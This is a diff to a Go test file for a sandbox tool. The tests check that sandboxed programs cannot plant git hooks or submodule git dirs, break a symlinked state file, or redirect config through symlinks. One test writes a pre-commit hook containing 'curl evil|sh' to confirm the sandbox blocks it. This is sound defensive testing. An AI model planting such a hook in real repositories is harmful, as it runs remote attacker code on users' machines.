@@ -201,18 +201,61 @@ func TestRefusalEscaped(t *testing.T) {
 	}
 }
 
-// TestGitPlanted: what the program adds that git would run code from —
-// a submodule's git dir below .git, a new repository — is reported after
-// the run (nothing can hold a path read-only before it exists).
+// TestGitPlanted: a submodule's git dir the program adds below .git
+// (which a gitlink in the index would make the user's next git status
+// enter) is reported after the run; a repository's existing submodule
+// and worktree are not (a warning on every run would teach users to
+// ignore it).
 func TestGitPlanted(t *testing.T) {
 	w := newWorld(t, nobody)
 	repo := gitRepo(t, w)
-	r := w.runEnv(gitEnv, "--workdir", repo, "--", "/bin/sh", "-c",
-		"git init -q --bare .git/modules/lib && git init -q sub")
-	for _, want := range []string{"made the git dir " + filepath.Join(repo, ".git", "modules", "lib"), "made a git repository in " + filepath.Join(repo, "sub")} {
-		if !strings.Contains(r.stderr, want) {
-			t.Errorf("stderr %q: want %q", r.stderr, want)
-		}
+	mustMkdir(t, filepath.Join(repo, "sm"))
+	writeFile(t, filepath.Join(repo, "sm", ".git"), "gitdir: ../.git/modules/sm\n")
+	mustMkdir(t, filepath.Join(repo, ".git", "modules", "sm"))
+	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "config"), "[core]\n")
+	chownTree(t, repo, nobody)
+	if r := w.run("--workdir", repo, "--", "/bin/true"); strings.Contains(r.stderr, "git dir") {
+		t.Errorf("a warning about the existing submodule: %q", r.stderr)
+	}
+	r := w.runEnv(gitEnv, "--workdir", repo, "--", "/bin/sh", "-c", "git init -q --bare .git/modules/lib")
+	if want := "made the git dir " + filepath.Join(repo, ".git", "modules", "lib"); !strings.Contains(r.stderr, want) {
+		t.Errorf("stderr %q: want %q", r.stderr, want)
+	}
+}
+
+// TestGitMissingHooks: a repository without .git/hooks (git init
+// --template=, libgit2) gets an empty one, read-only like any other, so
+// the program cannot make one with a pre-commit hook in it.
+func TestGitMissingHooks(t *testing.T) {
+	w := newWorld(t, nobody)
+	repo := gitRepo(t, w)
+	os.RemoveAll(filepath.Join(repo, ".git", "hooks"))
+	w.sh("sandbox", `mkdir -p `+shQuote(repo)+`/.git/hooks; echo 'curl evil|sh' > `+shQuote(repo)+`/.git/hooks/pre-commit`)
+	if w.exists(filepath.Join(repo, ".git", "hooks", "pre-commit")) {
+		t.Error("the program planted .git/hooks/pre-commit in a repository that had no hooks dir")
+	}
+}
+
+// TestStateSyncLinkedHome: a ~/.claude.json that links into a dotfiles
+// repository stays a link; the state goes where it points.
+func TestStateSyncLinkedHome(t *testing.T) {
+	w := newWorld(t, nobody)
+	claude, state := fakeClaude(t, w, `echo '{"new": 1}' > "$HOME/.claude/.claude.json"`)
+	dots := filepath.Join(w.home, "dotfiles", "claude.json")
+	mustMkdir(t, filepath.Dir(dots))
+	if err := os.Rename(state, dots); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(dots, state); err != nil {
+		t.Fatal(err)
+	}
+	chownTree(t, w.home, nobody)
+	w.run("--", claude)
+	if fi, err := os.Lstat(state); err != nil || fi.Mode()&os.ModeSymlink == 0 {
+		t.Errorf("~/.claude.json is no longer a link (%v)", err)
+	}
+	if b, _ := os.ReadFile(dots); !strings.Contains(string(b), "new") {
+		t.Errorf("the linked file did not get the state: %q", b)
 	}
 }
 
@@ -315,4 +358,22 @@ func fakeClaude(t *testing.T, w *world, script string) (claude, state string) {
 	writeFile(t, state, `{"userID": "u"}`)
 	os.Chmod(state, 0o600)
 	return claude, state
+}
+
+// TestConfigLinkInRoot: a --config reached through a symlink inside a
+// writable root is refused: the program could point the link at a file
+// of its own for the next launch.
+func TestConfigLinkInRoot(t *testing.T) {
+	w := newWorld(t, nobody)
+	real := filepath.Join(w.outside, "cfg")
+	mustMkdir(t, real)
+	writeFile(t, filepath.Join(real, "c.toml"), "[sandbox]\nmode = \"sandbox\"\n")
+	if err := os.Symlink(real, filepath.Join(w.extra, "cfg")); err != nil {
+		t.Fatal(err)
+	}
+	chownTree(t, filepath.Dir(w.home), nobody)
+	r := w.run("--config", filepath.Join(w.extra, "cfg", "c.toml"), "--allow-write", w.extra, "--", "/bin/true")
+	if r.code != 125 || !strings.Contains(r.stderr, "symlink inside the writable") {
+		t.Errorf("exit %d, stderr %q; want 125 naming the link", r.code, r.stderr)
+	}
 }
